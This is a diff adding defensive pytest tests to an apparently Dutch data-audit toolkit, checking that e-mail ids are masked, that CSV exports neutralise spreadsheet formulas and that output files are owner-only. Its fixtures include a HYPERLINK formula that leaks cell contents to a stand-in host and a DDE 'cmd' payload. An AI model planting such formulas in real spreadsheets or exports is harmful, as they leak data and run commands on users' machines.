@@ -198,3 +198,75 @@ def test_load_run_and_history(tmp_path):
     assert isinstance(found.details[0], dict)
     hist = findings.run_history(db)
     assert set(hist.run_id) == {first.run_id}
+
+
+# ---------------------------------------------------------------- nothing leaks, nothing runs
+
+HOSTILE_ID = "=HYPERLINK(\"http://x.nl/?e=\"&A1,\"klik\")"
+
+
+def hostile_shop(tmp_path: Path) -> Path:
+    """Customer ids that are e-mail addresses or formulas, a title that is a formula."""
+    return build_db(tmp_path / "hostile.duckdb", {
+        "customers": [{"customer_id": cid, "person_key": cid, "created_at": "2022-01-01T00:00:00Z",
+                       "first_name": "Piet", "status": "active"}
+                      for cid in ("jan.jansen@ziggo.nl", HOSTILE_ID, "-2+3+cmd|' /C calc'!A0")],
+        "visits": [{"visit_id": f"v{i}", "customer_id": cid, "started_at": "2023-01-05T10:00:00Z",
+                    "origin": "web", "is_bot": False}
+                   for i, cid in enumerate(("jan.jansen@ziggo.nl", HOSTILE_ID,
+                                            "-2+3+cmd|' /C calc'!A0"))],
+    })
+
+
+def test_subject_and_customer_ids_are_masked_like_evidence(tmp_path):
+    db = hostile_shop(tmp_path)
+    res = toolkit.audit(db, "2025-03-02", rules="RET-001", out=tmp_path / "out")
+    ids = sorted(f["subject_id"] for f in res.findings)
+    assert "j***@ziggo.nl" in ids and "jan.jansen@ziggo.nl" not in ids
+    assert all(f["customer_id"] == f["subject_id"] for f in res.findings)
+    blob = "".join(p.read_text(encoding="utf-8", errors="replace")
+                   for p in (tmp_path / "out").iterdir() if p.suffix != ".parquet")
+    blob += pd.read_parquet(tmp_path / "out" / "findings.parquet").to_csv()
+    con = duckdb.connect(str(db), read_only=True)
+    blob += str(con.execute("SELECT * FROM findings").fetchall())
+    con.close()
+    assert "jan.jansen" not in blob
+    revealed = toolkit.audit(db, "2025-03-02", rules="RET-001", reveal=True, store=False)
+    assert "jan.jansen@ziggo.nl" in {f["subject_id"] for f in revealed.findings}
+
+
+def test_written_csvs_have_no_formula_cells(tmp_path):
+    from .test_outputs import assert_spreadsheet_safe
+    db = hostile_shop(tmp_path)
+    pol = load_policy()
+    rules_ = dict(pol.rules)
+    rules_["RET-001"] = rules_["RET-001"].model_copy(update={"title": "=1+1 @SUM -3 +x"})
+    res = toolkit.audit(db, "2025-03-02", policy=pol.model_copy(update={"rules": rules_}),
+                        rules="RET-001", out=tmp_path / "out")
+    assert len(res.findings) == 3
+    for name in ("findings.csv", "rules.csv"):
+        assert assert_spreadsheet_safe(tmp_path / "out" / name) > 10
+    back = list(csv.DictReader(open(tmp_path / "out" / "findings.csv", newline="", encoding="utf-8")))
+    assert {r["subject_id"] for r in back} >= {"'" + HOSTILE_ID, "'-2+3+cmd|' /C calc'!A0"}
+    assert {r["days_overdue"] for r in back} == {"422"}
+    # Parquet keeps the exact values (for programs)
+    df = pd.read_parquet(tmp_path / "out" / "findings.parquet")
+    assert HOSTILE_ID in set(df["subject_id"])
+
+
+def test_outputs_are_owner_only_whatever_the_umask(tmp_path):
+    import os
+    import stat
+    db = shop(tmp_path)
+    old = os.umask(0)
+    try:
+        toolkit.audit(db, "2025-03-02", out=tmp_path / "new" / "out")
+    finally:
+        os.umask(old)
+    out = tmp_path / "new" / "out"
+    assert stat.S_IMODE(os.stat(tmp_path / "new").st_mode) == 0o700
+    assert stat.S_IMODE(os.stat(out).st_mode) == 0o700
+    for p in out.iterdir():
+        assert stat.S_IMODE(os.stat(p).st_mode) == 0o600, p
+    assert {p.name for p in out.iterdir()} == {"findings.parquet", "findings.csv", "rules.csv",
+                                                "manifest.json"}
